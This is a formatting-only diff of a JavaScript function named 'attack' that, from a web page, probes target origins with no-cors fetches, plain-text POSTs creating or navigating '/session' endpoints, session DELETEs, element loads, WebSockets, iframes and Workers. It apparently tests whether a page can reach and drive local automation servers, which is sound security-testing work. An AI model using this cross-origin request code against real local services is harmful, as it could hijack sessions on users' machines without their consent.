@@ -27,27 +27,69 @@ globalThis.attack = async (targets, sessionId) => {
 
   const tryFetch = (origin) =>
     paths.flatMap((path) => [
-      within(fetch(origin + path, { mode: 'no-cors' }).then(() => got('fetch', origin + path), () => {})),
-      within(fetch(origin + path, { mode: 'no-cors', method: 'POST', headers: { 'content-type': 'text/plain' }, body: path === '/session' ? newSession : navigate }).then(() => got('post', origin + path), () => {})),
-      within(fetch(origin + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: newSession }).then(() => got('cors', origin + path), () => {})),
-      within(fetch(origin + `/session/${sessionId}`, { method: 'DELETE' }).then(() => got('delete', origin), () => {})),
+      within(
+        fetch(origin + path, { mode: 'no-cors' }).then(
+          () => got('fetch', origin + path),
+          () => {},
+        ),
+      ),
+      within(
+        fetch(origin + path, {
+          mode: 'no-cors',
+          method: 'POST',
+          headers: { 'content-type': 'text/plain' },
+          body: path === '/session' ? newSession : navigate,
+        }).then(
+          () => got('post', origin + path),
+          () => {},
+        ),
+      ),
+      within(
+        fetch(origin + path, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json' },
+          body: newSession,
+        }).then(
+          () => got('cors', origin + path),
+          () => {},
+        ),
+      ),
+      within(
+        fetch(origin + `/session/${sessionId}`, { method: 'DELETE' }).then(
+          () => got('delete', origin),
+          () => {},
+        ),
+      ),
     ]);
   const tryElement = (tag, attribute, url) =>
-    within(new Promise((resolve) => {
-      const element = document.createElement(tag);
-      element.onload = () => { got(tag, url); resolve(); };
-      element.onerror = resolve;
-      element[attribute] = url;
-      document.head.append(element);
-    }));
+    within(
+      new Promise((resolve) => {
+        const element = document.createElement(tag);
+        element.onload = () => {
+          got(tag, url);
+          resolve();
+        };
+        element.onerror = resolve;
+        element[attribute] = url;
+        document.head.append(element);
+      }),
+    );
   const trySocket = (url) =>
-    within(new Promise((resolve) => {
-      try {
-        const socket = new WebSocket(url);
-        socket.onopen = () => { got('websocket', url); socket.close(); resolve(); };
-        socket.onerror = resolve;
-      } catch { resolve(); }
-    }));
+    within(
+      new Promise((resolve) => {
+        try {
+          const socket = new WebSocket(url);
+          socket.onopen = () => {
+            got('websocket', url);
+            socket.close();
+            resolve();
+          };
+          socket.onerror = resolve;
+        } catch {
+          resolve();
+        }
+      }),
+    );
   const tryForm = (origin) =>
     paths.map((path) => {
       const frame = document.createElement('iframe');
@@ -61,11 +103,16 @@ globalThis.attack = async (targets, sessionId) => {
     document.body.append(frame);
   };
   const tryWorker = (origin) =>
-    within(new Promise((resolve) => {
-      const source = `fetch(${JSON.stringify(`${origin}/status`)}, {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))`;
-      const worker = new Worker(URL.createObjectURL(new Blob([source])));
-      worker.onmessage = ({ data }) => { if (data) got('worker', origin); resolve(); };
-    }));
+    within(
+      new Promise((resolve) => {
+        const source = `fetch(${JSON.stringify(`${origin}/status`)}, {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))`;
+        const worker = new Worker(URL.createObjectURL(new Blob([source])));
+        worker.onmessage = ({ data }) => {
+          if (data) got('worker', origin);
+          resolve();
+        };
+      }),
+    );
 
   const attackOne = async (target) => {
     const origin = `http://${target}`;
